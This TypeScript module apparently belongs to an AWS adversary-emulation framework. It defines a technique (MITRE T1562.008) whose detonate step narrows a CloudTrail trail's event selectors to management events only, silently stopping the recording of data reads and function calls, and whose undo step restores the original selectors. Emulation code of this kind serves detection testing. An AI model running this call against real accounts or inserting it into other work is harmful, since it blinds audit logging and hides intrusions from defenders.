import { z } from 'zod';
import type { AttackTechnique } from '../../../technique.ts';

const inputs = z.object({ trailName: z.string().min(1) });

/** The trail still runs, and every light is green; it only looks elsewhere. */
export const technique: AttackTechnique<z.infer<typeof inputs>> = {
  id: 'defense-evasion.trail-selectors-narrowed',
  title: 'Narrow what a trail selects',
  purpose:
    'Reads of objects and calls of functions leave no record any more, and nothing says that they did.',
  mitre: ['T1562.008'],
  awsThreatTechniques: ['T1562.008'],
  sources: [
    {
      title: 'Impair Defenses: Disable or Modify Cloud Logs, MITRE ATT&CK',
      url: 'https://attack.mitre.org/techniques/T1562/008/',
    },
    {
      title: 'PutEventSelectors, AWS CloudTrail API Reference',
      url: 'https://docs.aws.amazon.com/awscloudtrail/latest/APIReference/API_PutEventSelectors.html',
    },
    {
      title: 'T1562.008, Threat Technique Catalog for AWS',
      url: 'https://aws-samples.github.io/threat-technique-catalog-for-aws/Techniques/T1562.008.html',
    },
  ],
  inputs,
  actsAs: 'insider',
  needsStage: { trail: true },
  needs: ['cloudtrail:PutEventSelectors'],
  leaves: [{ service: 'cloudtrail.amazonaws.com', name: 'PutEventSelectors', outcome: 'succeeds' }],
  repeatable: true,
  async detonate({ inputs: { trailName }, aws, say }) {
    say(`Let the trail ${trailName} select management events only`);
    await aws.cloudTrail().putEventSelectors({
      TrailName: trailName,
      AdvancedEventSelectors: [
        {
          Name: 'management',
          FieldSelectors: [{ Field: 'eventCategory', Equals: ['Management'] }],
        },
      ],
    });
  },
  undo: {
    kind: 'call',
    async plan({ inputs: { trailName: TrailName }, aws }) {
      const { EventSelectors, AdvancedEventSelectors } = await aws
        .cloudTrail()
        .getEventSelectors({ TrailName });
      return async () => {
        await aws
          .cloudTrail()
          .putEventSelectors(
            AdvancedEventSelectors === undefined
              ? { TrailName, EventSelectors }
              : { TrailName, AdvancedEventSelectors },
          );
      };
    },
  },
};
